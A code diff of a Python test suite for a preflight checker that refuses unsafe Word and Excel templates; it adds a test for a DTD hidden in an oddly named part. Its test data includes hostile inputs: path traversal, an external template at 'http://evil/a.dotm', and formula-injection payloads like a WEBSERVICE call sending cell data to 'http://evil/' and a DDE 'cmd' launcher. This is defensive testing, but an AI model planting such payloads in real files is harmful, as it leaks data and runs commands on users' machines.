@@ -98,6 +98,7 @@ FILLED: dict[str, Callable[[str], object]] = {
 }
 BARE: dict[str, Callable[[str], object]] = {
     "Word, word/comments.xml": lambda tag: in_word(noted(word("một"), "comments", escaped(tag))),
+    "Word, word/document.xml": lambda tag: in_word(field(escaped(tag))),
     "Word, docProps/core.xml": lambda tag: in_word(word("một", title=tag)),
     "Word, docProps/custom.xml": lambda tag: in_word(noted(word("một"), "custom", escaped(tag))),
     "Excel, xl/comments1.xml": lambda tag: in_sheet(sheet(["một"], note=tag)),
@@ -215,6 +216,7 @@ UNOPENED = {
     "it is no Word or Excel file that can be read": b"PK\x03\x04",
     "it holds macros": changed(word("a"), {}, {"word/vbaProject.bin": b"a"}),
     "it holds a DTD": changed(word("a"), {"word/settings.xml": lambda old: "<!DOCTYPE a>" + old}),
+    "it holds a DTD, whatever the part is called": changed(word("a"), {}, {"word/a.bin": "\n<!DOCTYPE a>"}),
     "it unpacks to": changed(word("a"), {}, {f"word/{n}.xml": "a" for n in range(600)}),
     "its parts have names": changed(word("a"), {}, {"../a.xml": "a"}),
     "it takes something from outside: attachedTemplate": related("attachedTemplate", "http://evil/a.dotm"),
@@ -236,7 +238,8 @@ UNOPENED = {
 def test_an_office_file_that_would_hurt_is_not_opened(reason: str) -> None:
     with pytest.raises(KdiemError) as refused:
         preflight.check(UNOPENED[reason], "templates/documents/a.docx")
-    assert refused.value.say("en").startswith(f"template `templates/documents/a.docx` is not opened: {reason}")
+    said = f"template `templates/documents/a.docx` is not opened: {reason.split(', whatever')[0]}"
+    assert refused.value.say("en").startswith(said)
 
 
 @pytest.mark.parametrize("formula", ['=WEBSERVICE("http://evil/"&A1)', "=cmd|'/c calc'!A1", '=RTD("a",,"b")'])
